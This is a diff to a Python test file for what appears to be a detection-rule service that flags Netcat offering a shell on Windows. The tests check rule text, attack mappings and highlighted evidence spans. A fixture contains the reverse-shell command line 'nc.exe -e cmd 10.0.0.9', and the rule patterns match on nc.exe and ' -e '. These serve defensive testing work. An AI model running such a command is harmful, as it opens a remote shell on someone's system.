@@ -118,7 +118,7 @@ def test_the_state_of_the_system_counts_them(desk):
 def test_one_rule_is_told_whole(desk):
     told = desk.get(f"/api/rules/{NETCAT}").json()
     assert told["text"] == RULE.strip()
-    assert told["words"].startswith("Netcat offers a shell (critical).\nLooks at process starts on Windows.")
+    assert told["words"].startswith("Looks at process starts on Windows.\nFires when")
     assert [one.get("name", "") for one in told["attack"]] == [
         "command and control",
         "Standard Application Layer Protocol",
@@ -153,6 +153,15 @@ def test_evidence_carries_the_fields_that_made_the_rule_hold(desk):
     assert fields["Image"]["wanted"] == ["\\nc.exe"]
     assert fields["CommandLine"]["values"] == ["nc.exe -e cmd 10.0.0.9"]
     assert fields["CommandLine"]["wanted"] == [" -e "], "an alternative that does not hold marks nothing"
+
+
+def test_the_text_of_the_rule_is_marked_where_it_held(desk):
+    """The field's name and the value found, wherever the rule asks for it; of a name only the field."""
+    matched = evidence(desk)[0]["matched"][0]
+    lines = desk.get(f"/api/rules/{NETCAT}").json()["text"].split("\n")
+    marked = [lines[line][start:end] for line, start, end in matched["spans"]]
+    image = ["Image|endswith", r"'\nc.exe'"]
+    assert marked == [*image, "CommandLine|contains", "' -e '", *image, "User|contains"]
 
 
 def test_a_name_stays_a_token_and_the_marks_of_admission_are_not_shown(desk):
